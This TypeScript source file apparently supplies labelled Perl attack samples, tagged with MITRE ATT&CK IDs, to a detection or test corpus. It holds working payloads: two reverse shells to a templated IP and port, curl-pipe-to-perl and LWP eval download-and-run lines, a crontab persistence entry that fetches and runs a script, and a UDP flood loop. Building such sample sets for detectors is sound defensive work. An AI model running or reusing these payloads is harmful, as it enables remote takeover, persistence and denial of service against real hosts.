import { type Payload, payloads } from '../payload.ts';

/** Behaviours written in Perl. */
export const perl: readonly Payload[] = [
  ...payloads('perl', 'EXE-REVSH', [
    [
      'pl-rev-socket',
      'malicious',
      'T1059.004 T1059.006',
      (p) =>
        `use Socket;\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));\nif (connect(S, sockaddr_in(${p.port}, inet_aton("${p.ip}")))) {\n  open(STDIN, ">&S");\n  open(STDOUT, ">&S");\n  open(STDERR, ">&S");\n  exec("/bin/sh -i");\n}\n`,
    ],
    [
      'pl-rev-io',
      'malicious',
      'T1059.004 T1059.006',
      (p) =>
        `use IO::Socket::INET;\nmy $c = IO::Socket::INET->new(PeerAddr => "${p.ip}:${p.port}");\nSTDIN->fdopen($c, "r");\nSTDOUT->fdopen($c, "w");\nexec("/bin/sh", "-i");\n`,
    ],
  ]),
  ...payloads('perl', 'EXE-DLEXEC', [
    ['pl-dl-system', 'malicious', 'T1105', (p) => `system("curl -s http://${p.ip}/x.pl | perl");\n`],
    [
      'pl-dl-eval',
      'malicious',
      'T1105',
      (p) => `use LWP::Simple;\nmy $code = get("http://${p.ip}/s.pl");\neval $code;\n`,
    ],
  ]),
  ...payloads('perl', 'PER-CRON', [
    [
      'pl-cron-host',
      'malicious',
      'T1053.003',
      (p) =>
        `open(my $t, ">>", "/mnt/etc/crontab");\nprint $t "* * * * * root curl -s http://${p.ip}/c | sh\\n";\nclose($t);\n`,
    ],
  ]),
  ...payloads('perl', 'IM-DDOS', [
    [
      'pl-flood',
      'suspicious',
      'T1498 T1498.001 T1499',
      (p) =>
        `use Socket;\nsocket(F, PF_INET, SOCK_DGRAM, 17);\nmy $a = inet_aton("${p.ip}");\nwhile (1) { send(F, pack("a1024", "x"), 0, pack_sockaddr_in(int(rand 65500) + 1, $a)); }\n`,
    ],
  ]),
];
